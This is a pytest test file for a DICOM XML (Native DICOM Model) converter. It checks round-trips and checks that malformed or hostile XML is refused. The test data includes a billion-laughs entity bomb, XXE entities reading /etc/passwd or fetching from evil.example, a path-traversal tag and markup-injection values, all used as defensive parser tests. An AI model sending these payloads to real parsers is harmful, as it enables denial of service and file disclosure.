"""The Native DICOM Model: what goes out comes back the same; what attacks the parser is refused, and soon."""

import time
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pydicom.data import get_testdata_file

from leadglass.dicom.elements import Limits
from leadglass.dicom.json_model import to_json
from leadglass.dicom.part10 import parse_head
from leadglass.dicom.transfer_syntaxes import TRANSFER_SYNTAXES
from leadglass.dicom.xml_model import NAMESPACE, from_xml, to_xml
from leadglass.errors import Malformed

LIMITS = Limits()
NS = {"n": NAMESPACE}


def document(inside: str) -> bytes:
    return f'<NativeDicomModel xmlns="{NAMESPACE}">{inside}</NativeDicomModel>'.encode()


def attribute(tag: str, vr: str, inside: str, more: str = "") -> str:
    return f'<DicomAttribute tag="{tag}" vr="{vr}"{more}>{inside}</DicomAttribute>'


def without_empty(model):
    """Return the model without empty value lists: XML has one way to say empty, JSON two."""
    out = {}
    for key, one in model.items():
        entry = dict(one)
        if entry["vr"] == "SQ" and "Value" in entry:
            entry["Value"] = [without_empty(item) for item in entry["Value"]]
        if entry.get("Value") == []:
            del entry["Value"]
        out[key] = entry
    return out


@pytest.mark.parametrize("name", ["CT_small.dcm", "MR_small.dcm", "JPEG2000.dcm", "rtplan.dcm", "reportsi.dcm", "SC_rgb_rle.dcm",
                                  "ExplVR_BigEnd.dcm", "liver_1frame.dcm", "MR_small_bigendian.dcm"])
def test_real_files_come_back_the_same(name):
    data = Path(str(get_testdata_file(name))).read_bytes()
    head = parse_head(data, is_complete=True, limits=LIMITS)
    syntax = TRANSFER_SYNTAXES[head.transfer_syntax_uid]
    model = to_json(data, offset=head.dataset_offset, explicit=syntax.explicit, little=syntax.little, limits=LIMITS,
                    bulk_uri=lambda path: "https://localhost/bulk/" + path)
    assert from_xml(to_xml(model), LIMITS) == without_empty(model)


def test_the_elements_are_the_standards():
    model = {
        "00080005": {"vr": "CS", "Value": ["ISO_IR 192"]},
        "00100010": {"vr": "PN", "Value": [{"Alphabetic": "Yamada^Tarou", "Ideographic": "山田^太郎", "Phonetic": "やまだ^たろう"}]},
        "00081140": {"vr": "SQ", "Value": [{"00081155": {"vr": "UI", "Value": ["1.2"]}}, {}]},
        "00091001": {"vr": "OB", "InlineBinary": "AAE="},
        "00090010": {"vr": "LO", "Value": ["ACME 1.0"]},
        "00200032": {"vr": "DS", "Value": [1, None, 2.5]},
        "7FE00010": {"vr": "OW", "BulkDataURI": "bulk/7FE00010?a=1&b=2"},
    }
    root = ET.fromstring(to_xml(model))
    found = {e.get("tag"): e for e in root.findall("n:DicomAttribute", NS)}
    assert root.tag == f"{{{NAMESPACE}}}NativeDicomModel"
    name = found["00100010"]
    assert name.get("keyword") == "PatientName"
    assert name.find("n:PersonName", NS).get("number") == "1"
    assert name.findtext("n:PersonName/n:Ideographic/n:FamilyName", namespaces=NS) == "山田"
    assert [i.get("number") for i in found["00081140"].findall("n:Item", NS)] == ["1", "2"]
    assert found["00090001"].get("privateCreator") == "ACME 1.0"
    assert found["00090001"].findtext("n:InlineBinary", namespaces=NS) == "AAE="
    assert [(v.get("number"), v.text) for v in found["00200032"].findall("n:Value", NS)] == [("1", "1"), ("3", "2.5")]
    assert found["7FE00010"].find("n:BulkData", NS).get("uri") == "bulk/7FE00010?a=1&b=2"
    assert from_xml(to_xml(model), LIMITS) == dict(sorted(model.items()))


def test_markup_in_a_value_stays_text():
    hostile = '</Value><DicomAttribute tag="00100020"/>&amp;<!-- "\']]>\t\n\r'
    model = {"00081030": {"vr": "LO", "Value": [hostile]}, "00090010": {"vr": "LO", "Value": ['"><x a="\n']},
             "00091001": {"vr": "UT", "Value": ["x"]}}
    assert from_xml(to_xml(model), LIMITS) == model


@pytest.mark.parametrize("character", ["\x00", "\x0c", "\x1b", "\x08", "\ud800", "\ufffe"])
def test_what_xml_cannot_hold_is_replaced(character):
    found = from_xml(to_xml({"00081030": {"vr": "LO", "Value": [f"a{character}b"]}}), LIMITS)
    assert found["00081030"]["Value"] == ["a\ufffdb"]


TEXTS = st.text(st.characters(exclude_categories=["Cs", "Cc"], exclude_characters="\ufffe\uffff"), min_size=1, max_size=20)
ENTRIES = st.one_of(
    st.fixed_dictionaries({"vr": st.sampled_from(["LO", "UC", "SH"]), "Value": st.lists(TEXTS, min_size=1, max_size=4)}),
    st.fixed_dictionaries({"vr": st.just("PN"), "Value": st.lists(
        st.dictionaries(st.sampled_from(["Alphabetic", "Ideographic", "Phonetic"]),
                        TEXTS.filter(lambda t: t.count("^") < 5), min_size=1), min_size=1, max_size=2)}),
    st.fixed_dictionaries({"vr": st.sampled_from(["FD", "DS"]), "Value": st.lists(st.floats(allow_nan=False, allow_infinity=False).filter(
        lambda n: not n.is_integer()), min_size=1, max_size=3)}),
    st.fixed_dictionaries({"vr": st.just("SL"), "Value": st.lists(st.integers(-2**31, 2**31 - 1), min_size=1, max_size=3)}),
    st.fixed_dictionaries({"vr": st.just("OB"), "InlineBinary": st.sampled_from(["", "AAE=", "////"])}),
)
TAGS = st.integers(0x00080000, 0x7FDFFFFF).map(lambda n: f"{n & 0xFFFEFFFF:08X}")
MODELS = st.recursive(st.dictionaries(TAGS, ENTRIES, max_size=4), lambda inner: st.dictionaries(
    TAGS, st.fixed_dictionaries({"vr": st.just("SQ"), "Value": st.lists(inner, min_size=1, max_size=3)}), max_size=3), max_leaves=6)


@settings(max_examples=150, deadline=None)
@given(MODELS)
def test_any_model_comes_back_the_same(model):
    assert from_xml(to_xml(model), LIMITS) == dict(sorted(model.items())) or model == {}


@settings(max_examples=300, deadline=None)
@given(at=st.integers(0, 2000), noise=st.binary(max_size=6))
def test_a_changed_document_is_read_or_refused(at, noise):
    data = to_xml({"00100010": {"vr": "PN", "Value": [{"Alphabetic": "A^B"}]}, "00081140": {"vr": "SQ", "Value": [{
        "00081155": {"vr": "UI", "Value": ["1.2"]}}]}, "00280010": {"vr": "US", "Value": [5]}})
    try:
        from_xml(data[:at] + noise + data[at + len(noise):], LIMITS)
    except Malformed:
        return


def test_private_attributes_find_their_block_or_get_one():
    found = from_xml(document(
        attribute("00090002", "LO", '<Value number="1">late</Value>', ' privateCreator="B"')
        + attribute("00090001", "LO", '<Value number="1">x</Value>', ' privateCreator="A"')
        + attribute("00090010", "LO", '<Value number="1">B</Value>')), LIMITS)
    assert found == {
        "00090010": {"vr": "LO", "Value": ["B"]}, "00090011": {"vr": "LO", "Value": ["A"]},
        "00091002": {"vr": "LO", "Value": ["late"]}, "00091101": {"vr": "LO", "Value": ["x"]},
    }


def test_a_private_group_without_a_free_block_is_refused():
    full = "".join(attribute(f"000900{b:02X}", "LO", f'<Value number="1">C{b}</Value>') for b in range(0x10, 0x100))
    with pytest.raises(Malformed, match="no block left"):
        from_xml(document(full + attribute("00090001", "LO", "", ' privateCreator="Z"')), LIMITS)


BOMB = ('<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa">' + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True))
        + "]>" + document(attribute("00081030", "LO", '<Value number="1">&i;</Value>')).decode()).encode()
VALUE = '<Value number="1">x</Value>'


@pytest.mark.parametrize(("name", "data"), [
    ("billion laughs", BOMB),
    ("a file of ours", b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + document(attribute("00081030", "LO", '<Value number="1">&x;</Value>'))),
    ("an external document type", b'<!DOCTYPE a SYSTEM "https://evil.example/x.dtd">' + document("")),
    ("a parameter entity", b'<!DOCTYPE a [<!ENTITY % p SYSTEM "https://evil.example/x"> %p;]>' + document("")),
    ("an empty document type", b"<!DOCTYPE a>" + document("")),
    ("nothing", b""),
    ("not XML", b"{}"),
    ("another root", b"<html/>"),
    ("another namespace", b'<NativeDicomModel xmlns="urn:other"/>'),
    ("cut", document(attribute("00081030", "LO", VALUE))[:-5]),
    ("trailing", document("") + b"<x/>"),
    ("an unknown encoding", b'<?xml version="1.0" encoding="x-evil"?>' + document("")),
    ("no encoding at all", b"\xff\xfe\x00\x00"),
    ("a tag with a path", document(attribute("../../etc", "LO", ""))),
    ("a tag of other digits", document(attribute("٠٠٠٨٠٠٠٥", "CS", ""))),
    ("an unknown VR", document(attribute("00081030", "ZZ", VALUE))),
    ("the same attribute twice", document(attribute("00081030", "LO", VALUE) * 2)),
    ("the same private attribute twice", document(attribute("00090001", "LO", VALUE, ' privateCreator="A"') * 2)),
    ("a value number of a billion", document(attribute("00081030", "LO", '<Value number="999999999">x</Value>'))),
    ("a value number of 100 digits", document(attribute("00081030", "LO", f'<Value number="{"9" * 100}">x</Value>'))),
    ("numbers downwards", document(attribute("00081030", "LO", '<Value number="2">x</Value><Value number="1">y</Value>'))),
    ("no number", document(attribute("00081030", "LO", "<Value>x</Value>"))),
    ("a number of 100,000 digits", document(attribute("00280010", "US", f'<Value number="1">{"9" * 100_000}</Value>'))),
    ("DS that is no number", document(attribute("00200032", "DS", '<Value number="1">1_0</Value>'))),
    ("values of two kinds", document(attribute("00081030", "LO", VALUE + '<BulkData uri="x"/>'))),
    ("two bulk data", document(attribute("7FE00010", "OW", '<BulkData uri="x"/><BulkData uri="y"/>'))),
    ("bulk data without uri", document(attribute("7FE00010", "OW", "<BulkData/>"))),
    ("items in a text", document(attribute("00081030", "LO", '<Item number="1"/>'))),
    ("text in a sequence", document(attribute("00081140", "SQ", VALUE))),
    ("bulk data for a sequence", document(attribute("00081140", "SQ", '<BulkData uri="x"/>'))),
    ("text between", document("text" + attribute("00081030", "LO", VALUE))),
    ("a stranger inside", document(attribute("00081030", "LO", "<script/>"))),
    ("inside a value", document(attribute("00081030", "LO", '<Value number="1"><Value number="1"/></Value>'))),
    ("a group twice", document(attribute("00100010", "PN", '<PersonName number="1"><Alphabetic/><Alphabetic/></PersonName>'.replace(
        "<Alphabetic/>", "<Alphabetic><FamilyName>x</FamilyName></Alphabetic>")))),
    ("a component twice", document(attribute("00100010", "PN", '<PersonName number="1"><Alphabetic><FamilyName/><FamilyName/></Alphabetic></PersonName>'))),
])
def test_a_bad_document_is_refused_without_quoting_it(name, data):
    started = time.monotonic()
    with pytest.raises(Malformed) as caught:
        from_xml(data, LIMITS)
    assert time.monotonic() - started < 1
    assert str(caught.value).isascii()
    assert "evil" not in str(caught.value)
    assert "passwd" not in str(caught.value)


def test_depth_is_counted_and_costs_no_stack():
    deep = 50_000
    data = document('<DicomAttribute tag="00081140" vr="SQ"><Item number="1">' * deep + "</Item></DicomAttribute>" * deep)
    with pytest.raises(Malformed, match="deeper than 32"):
        from_xml(data, LIMITS)
    fits = '<DicomAttribute tag="00081140" vr="SQ"><Item number="1">' * 16 + "</Item></DicomAttribute>" * 16
    assert from_xml(document(fits), LIMITS)["00081140"]["vr"] == "SQ"
    assert from_xml(to_xml(from_xml(document(fits), LIMITS)), LIMITS)


def test_size_and_counts_are_bounded():
    small = Limits(max_elements=1000, max_header_bytes=200_000)
    with pytest.raises(Malformed, match="more than 1000 data elements"):
        from_xml(document("".join(attribute(f"{0x00081000 + n:08X}", "LO", "") for n in range(1001))), small)
    with pytest.raises(Malformed, match="larger than"):
        from_xml(document(" " * 200_000), small)
    with pytest.raises(Malformed, match="more than 5000 elements"):
        from_xml(document(attribute("00081030", "LO", "".join(f'<Value number="{n}">x</Value>' for n in range(1, 5001)))), small)
    with pytest.raises(Malformed, match="more than 5000 elements"):
        from_xml(document(attribute("00081030", "LO", '<Value number="4999"/><Value number="9999"/>')), small)
    with pytest.raises(Malformed, match="one after the other"):  # each gap would be an item that is written
        from_xml(document(attribute("00081140", "SQ", '<Item number="1"/><Item number="3"/>')), small)


def test_the_namespace_may_be_missing():
    data = ("<NativeDicomModel>" + attribute("00081030", "LO", VALUE) + "</NativeDicomModel>").encode()
    assert from_xml(data, LIMITS) == {"00081030": {"vr": "LO", "Value": ["x"]}}
